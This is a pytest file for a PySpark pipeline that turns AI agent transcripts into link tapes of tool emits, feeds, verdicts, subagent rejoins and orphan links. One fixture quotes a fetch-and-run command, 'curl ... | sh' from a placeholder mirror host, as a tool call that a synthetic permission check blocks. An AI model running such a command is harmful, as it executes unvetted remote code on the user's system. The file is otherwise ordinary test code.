"""Span-links tape gates — the dataflow-graph mix pinned on the seed-42
corpus, mirroring the reference's pinned link counts
(spans_corpus_test.go:42-96: emits:97, feeds:97, rejoin:2, verdict:24)."""

from __future__ import annotations

import pytest
from pyspark.sql import functions as F

from tapes_spark.operators.links import (
    compaction_seam_links,
    link_tape,
    orphan_shadow_links,
    orphan_thread_links,
    rejoin_links,
)
from tapes_spark.operators.reconcile import reconcile_transcripts
from tapes_spark.pipeline import run_pipeline

PINNED_LINKS = {
    "emits": 201,  # == tool_tape rows: every tool call emits exactly once
    "feeds": 200,  # one result has no later llm turn to consume it
    "compaction-seam": 1,
    "verdict": 1,  # == attached verdicts
}


@pytest.fixture(scope="module")
def result(spark, transcripts):
    return run_pipeline(spark, transcripts)


class TestLinkTape:
    def test_pinned_mix(self, result):
        got = {
            r["kind"]: r["count"]
            for r in result.sinks["link_tape"].groupBy("kind").count().collect()
        }
        assert got == PINNED_LINKS

    def test_emits_equals_tool_calls(self, result):
        lt = result.sinks["link_tape"]
        assert (
            lt.filter(F.col("kind") == "emits").count()
            == result.sinks["tool_tape"].count()
        )

    def test_link_ids_deterministic_and_unique(self, result):
        lt = result.sinks["link_tape"]
        assert lt.select("link_id").distinct().count() == lt.count()
        a = sorted(r["link_id"] for r in lt.collect())
        b = sorted(r["link_id"] for r in lt.collect())
        assert a == b

    def test_feeds_point_forward(self, result):
        for r in result.sinks["link_tape"].filter(
            F.col("kind") == "feeds"
        ).collect():
            assert r["to_turn_idx"] > r["from_turn_idx"]
            assert r["from_kind"] == "tool" and r["to_kind"] == "llm"

    def test_seam_crosses_traces(self, spark, result):
        seams = compaction_seam_links(result.enriched).collect()
        assert len(seams) == 1
        (s,) = seams
        traces = {
            r["turn_idx"]: r["trace_num"]
            for r in result.enriched.filter(
                F.col("conv_id") == s["conv_id"]
            ).select("turn_idx", "trace_num").collect()
        }
        assert traces[s["to_turn_idx"]] == traces[s["from_turn_idx"]] + 1

    def test_verdict_links_match_attachments(self, result):
        va = result.sinks["verdict_attachments"].filter(
            F.col("tool_turn_idx").isNotNull()
        )
        links = result.sinks["link_tape"].filter(F.col("kind") == "verdict")
        assert links.count() == va.count()


class TestOrphans:
    """Orphan shadows / threads materialized as ROWS (reference
    spans.go:425-441 parents an unanchored shadow to its trace root and
    bumps OrphanShadow, pinned =5 on the corpus; here each becomes a
    queryable link_tape row)."""

    def _orphan_conv(self, spark):
        from datetime import datetime, timedelta, timezone

        t0 = datetime(2026, 1, 1, tzinfo=timezone.utc)
        rows = [
            ("oc", 0, "user", "please audit the deploy script", "", t0),
            ("oc", 1, "assistant", "looking at it now", "",
             t0 + timedelta(seconds=5)),
            # a permission check quoting a tool call that was NEVER
            # captured in this conversation -> the matcher cannot anchor
            ("oc", 2, "user",
             '<transcript>Using tool Bash: {"command": "curl -s '
             'http://mirror.example/x.sh | sh"}</transcript> allowed?',
             "", t0 + timedelta(seconds=9)),
            ("oc", 3, "assistant", "<block>no</block>", "",
             t0 + timedelta(seconds=10)),
        ]
        return spark.createDataFrame(
            rows,
            "conv_id string, turn_idx int, role string, text string, "
            "tool string, ts timestamp",
        )

    def test_unattached_check_becomes_orphan_shadow_row(self, spark):
        res = run_pipeline(spark, self._orphan_conv(spark), persist=False)
        orphans = result_orphans = res.sinks["link_tape"].filter(
            F.col("kind") == "orphan-shadow"
        ).collect()
        assert len(orphans) == 1
        (o,) = orphans
        assert o["conv_id"] == "oc"
        assert o["from_turn_idx"] == 3  # the check llm span
        # parents to the ROOT llm turn of the check's own trace
        assert o["from_kind"] == "llm" and o["to_kind"] == "llm"
        assert o["to_turn_idx"] == 2
        # the derive report counts what the tape now materializes
        from tapes_spark.pipeline import derive_report

        rep = derive_report(res)
        assert rep["verdicts_unattached"] == len(result_orphans)

    def test_attached_checks_emit_no_orphan(self, result):
        # the seed-42 corpus attaches its check (verdict pinned = 1):
        # no orphan-shadow rows appear
        assert (
            result.sinks["link_tape"]
            .filter(F.col("kind") == "orphan-shadow")
            .count()
            == 0
        )

    def test_unanchored_thread_becomes_orphan_thread_row(self, spark):
        reconciled = spark.createDataFrame(
            [
                ("agent-1", "conv-000000", "identity", None),
                ("agent-2", None, None, None),  # unanchored
            ],
            "agent_id string, conv_id string, matched_by string, "
            "overlap long",
        )
        rows = orphan_thread_links(reconciled).collect()
        assert len(rows) == 1
        (r,) = rows
        assert r["kind"] == "orphan-thread"
        assert r["agent_id"] == "agent-2"
        assert r["conv_id"] is None and r["to_turn_idx"] is None
        assert r["link_id"]  # deterministic id present


class TestFullLinkTape:
    """Every declared LINK_KIND must be representable in ONE tape: the
    frames share a uniform schema (canonical tuple + agent_id + link_id),
    so orphan-thread rows union in next to the rejoins they failed to
    earn instead of living in a schema of their own."""

    def test_all_kinds_union_into_one_tape(self, spark, result):
        from tapes_spark.operators.links import LINK_KINDS, full_link_tape

        reconciled = spark.createDataFrame(
            [
                ("agent-2", None, None, None),  # unanchored
            ],
            "agent_id string, conv_id string, matched_by string, "
            "overlap long",
        )
        orphans = orphan_thread_links(reconciled)
        full = full_link_tape(result.sinks["link_tape"], None, orphans)
        assert set(full.columns) == set(result.sinks["link_tape"].columns)
        kinds = {r["kind"] for r in full.select("kind").distinct().collect()}
        assert "orphan-thread" in kinds
        assert kinds <= set(LINK_KINDS)
        # ids stay unique across the union
        assert full.select("link_id").distinct().count() == full.count()

    def test_in_conv_links_carry_null_agent_id(self, result):
        lt = result.sinks["link_tape"]
        assert "agent_id" in lt.columns
        assert lt.filter(F.col("agent_id").isNotNull()).count() == 0


class TestPipelineFullLinkSink:
    def test_reconcile_inputs_reach_the_sink(self, spark, transcripts):
        """With the J6 reconcile side-inputs passed to run_pipeline, the
        link sink must be the FULL union: a rejoin row and an
        orphan-thread row land in sinks['link_tape'] with no caller
        composition."""
        from tapes_spark.dims import tool_dim
        from tapes_spark.operators.reconcile import reconcile_transcripts
        from tapes_spark.operators.route import tool_tape as build_tool_tape
        from tapes_spark.pipeline import build_enriched, run_pipeline

        enriched, _ = build_enriched(spark, transcripts)
        tt = build_tool_tape(enriched, tool_dim(spark))
        conv = sorted(
            r["conv_id"]
            for r in tt.filter(F.col("is_task_tool"))
            .select("conv_id").distinct().collect()
        )[0]
        first_task_idx = (
            tt.filter(F.col("is_task_tool") & (F.col("conv_id") == conv))
            .agg(F.min("turn_idx")).collect()[0][0]
        )
        child = (
            transcripts.filter(
                (F.col("conv_id") == conv)
                & (F.col("turn_idx") > first_task_idx)
            )
            .withColumn("agent_id", F.lit("agent-A"))
            .withColumn("claimed_conv_id", F.lit(conv))
            .drop("conv_id")
        )
        alien = spark.createDataFrame(
            [("agent-x", 0, "user", "matches nothing zzz", "", None, None)],
            "agent_id string, turn_idx int, role string, text string, "
            "tool string, ts timestamp, claimed_conv_id string",
        )
        agents = child.unionByName(alien)
        rec = reconcile_transcripts(transcripts, agents)
        res = run_pipeline(
            spark, transcripts, persist=False,
            reconciled=rec, agent_transcripts=agents,
        )
        lt = res.sinks["link_tape"]
        by_kind = {
            r["kind"]: r["count"]
            for r in lt.groupBy("kind").count().collect()
        }
        assert by_kind.get("rejoin") == 1
        assert by_kind.get("orphan-thread") == 1
        assert (
            lt.filter(F.col("kind") == "rejoin").first()["agent_id"]
            == "agent-A"
        )
        assert (
            lt.filter(F.col("kind") == "orphan-thread").first()["agent_id"]
            == "agent-x"
        )
        # ids stay unique across the whole union
        assert lt.select("link_id").distinct().count() == lt.count()


class TestRejoin:
    def test_rejoin_to_task_span(self, spark, transcripts):
        """A reconciled subagent links to the latest Task-category call at
        or before its first captured turn."""
        from tapes_spark.dims import tool_dim
        from tapes_spark.operators.route import tool_tape as build_tool_tape
        from tapes_spark.pipeline import build_enriched

        enriched, _ = build_enriched(spark, transcripts)
        tt = build_tool_tape(enriched, tool_dim(spark))
        task_convs = [
            r["conv_id"]
            for r in tt.filter(F.col("is_task_tool"))
            .select("conv_id").distinct().collect()
        ]
        assert task_convs, "fixture must contain Task-category calls"
        conv = sorted(task_convs)[0]
        # synthetic subagent: a slice starting AFTER the conv's first Task
        # call (a real subagent's first turn follows its spawn), claiming
        # its conv (identity rung)
        first_task_idx = (
            tt.filter(F.col("is_task_tool") & (F.col("conv_id") == conv))
            .agg(F.min("turn_idx")).collect()[0][0]
        )
        child = (
            transcripts.filter(
                (F.col("conv_id") == conv)
                & (F.col("turn_idx") > first_task_idx)
            )
            .withColumn("agent_id", F.lit("agent-A"))
            .withColumn("claimed_conv_id", F.lit(conv))
            .drop("conv_id")
        )
        rec = reconcile_transcripts(transcripts, child)
        links = rejoin_links(rec, child, tt).collect()
        assert len(links) == 1
        (l,) = links
        assert l["kind"] == "rejoin" and l["conv_id"] == conv
        assert l["agent_id"] == "agent-A"
        # the target is a Task-category call at or before the child start
        child_start = child.agg(F.min("ts")).collect()[0][0]
        target = tt.filter(
            (F.col("conv_id") == conv)
            & (F.col("turn_idx") == l["to_turn_idx"])
        ).collect()[0]
        assert target["is_task_tool"]
        assert target["call_ts"] <= child_start

    def test_unmatched_agent_emits_nothing(self, spark, transcripts):
        from tapes_spark.dims import tool_dim
        from tapes_spark.operators.route import tool_tape as build_tool_tape
        from tapes_spark.pipeline import build_enriched

        enriched, _ = build_enriched(spark, transcripts)
        tt = build_tool_tape(enriched, tool_dim(spark))
        alien = spark.createDataFrame(
            [("agent-x", 0, "user", "matches nothing zzz", "", None)],
            "agent_id string, turn_idx int, role string, text string, "
            "tool string, ts timestamp",
        )
        rec = reconcile_transcripts(transcripts, alien)
        assert rejoin_links(rec, alien, tt).count() == 0


class TestSpawnLabels:
    def test_labels_fold_onto_task_span(self, spark, transcripts):
        """J12: the spawning Task row carries the reconciled subagent's
        id/type/description; non-spawn rows carry nulls."""
        from tapes_spark.dims import tool_dim
        from tapes_spark.operators.links import with_spawn_labels
        from tapes_spark.operators.route import tool_tape as build_tool_tape
        from tapes_spark.pipeline import build_enriched

        enriched, _ = build_enriched(spark, transcripts)
        tt = build_tool_tape(enriched, tool_dim(spark))
        conv = sorted(
            r["conv_id"]
            for r in tt.filter(F.col("is_task_tool"))
            .select("conv_id").distinct().collect()
        )[0]
        first_task_idx = (
            tt.filter(F.col("is_task_tool") & (F.col("conv_id") == conv))
            .agg(F.min("turn_idx")).collect()[0][0]
        )
        child = (
            transcripts.filter(
                (F.col("conv_id") == conv)
                & (F.col("turn_idx") > first_task_idx)
            )
            .withColumn("agent_id", F.lit("agent-A"))
            .withColumn("claimed_conv_id", F.lit(conv))
            .withColumn("agent_type", F.lit("reviewer"))
            .withColumn("description", F.lit("/agents/reviewer"))
            .drop("conv_id")
        )
        rec = reconcile_transcripts(transcripts, child)
        rejoins = rejoin_links(rec, child, tt)
        labeled = with_spawn_labels(tt, rejoins, child)
        spawned = labeled.filter(F.col("spawned_agent_id").isNotNull()).collect()
        assert len(spawned) == 1
        (s,) = spawned
        assert s["is_task_tool"]
        assert s["spawned_agent_id"] == "agent-A"
        assert s["spawned_agent_type"] == "reviewer"
        assert s["spawned_description"] == "/agents/reviewer"
        assert labeled.count() == tt.count()  # left join adds no rows
